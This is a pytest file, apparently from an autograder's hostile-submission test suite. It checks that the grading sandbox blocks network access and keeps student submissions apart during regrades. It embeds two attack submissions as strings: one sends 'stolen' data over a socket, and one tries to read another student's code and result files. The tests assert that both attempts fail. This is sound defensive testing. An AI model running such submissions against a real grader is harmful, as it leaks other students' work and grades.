"""No network from the sandbox, and no student reads another's files in a regrade."""

from __future__ import annotations

import json
import os
import socket
import threading

import pytest
from click.testing import CliRunner

from autograder.cli import main
from autograder.sandbox import sandbox_user
from autograder.sandbox.process import Sandbox
from tests.hostile.attacks import _in_call
from tests.hostile.conftest import NAME, Graded, Grader


def _isolated() -> bool:
    with Sandbox(sandbox_user()) as sandbox:
        return sandbox.network_isolated


def test_no_network_even_to_this_machine(grader: Grader, baseline: Graded) -> None:
    if not _isolated():
        pytest.skip("this machine forbids network namespaces; SECURITY.md says what then")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(30)
    port = listener.getsockname()[1]
    accepted: list[socket.socket] = []
    thread = threading.Thread(target=lambda: _accept(listener, accepted), daemon=True)
    thread.start()
    attack = _in_call(
        "import socket\n"
        f"with socket.create_connection(('127.0.0.1', {port}), timeout=2) as s:\n"
        "    s.sendall(b'stolen')"
    )
    graded = grader.grade(grader.submission({"attack.py": attack}))
    listener.close()
    thread.join(5)
    assert graded.test("2")["score"] == 0
    assert "raised OSError: [Errno 101] Network is unreachable" in graded.test("2")["output"]
    assert accepted == []
    assert graded.test("3") == baseline.test("3")


def _accept(listener: socket.socket, accepted: list[socket.socket]) -> None:
    try:
        accepted.append(listener.accept()[0])
    except OSError:
        pass


@pytest.mark.skipif(os.geteuid() != 0, reason="needs a separate sandbox user (run as root)")
def test_a_regrade_keeps_students_apart(grader: Grader) -> None:
    first = grader.submission({})
    out = grader.root / "regrade"
    victim = first.rename(grader.root / "a-victim")
    reads = [victim / "attack.py", out / "a-victim" / "results.json", out / "scores.csv"]
    attack = _in_call(
        "found = []\n"
        f"for path in {[str(p) for p in reads]!r}:\n"
        "    try:\n        open(path).read()\n        found.append(path)\n"
        "    except OSError as error:\n        found.append(type(error).__name__)\n"
        "raise RuntimeError(f'READ {found}')"
    )
    thief = grader.submission({"attack.py": attack}).rename(grader.root / "b-thief")
    outcome = CliRunner().invoke(
        main, ["grade", str(grader.source / "rubrics" / f"{NAME}.yaml"), str(victim), str(thief),
               "--out", str(out)],
        catch_exceptions=False,
    )
    assert outcome.exit_code == 0, outcome.output
    stolen = json.loads((out / "b-thief" / "results.json").read_text())["tests"][1]["output"]
    assert "READ ['PermissionError', 'PermissionError', 'PermissionError']" in stolen
    assert json.loads((out / "a-victim" / "results.json").read_text())["score"] == 9.0
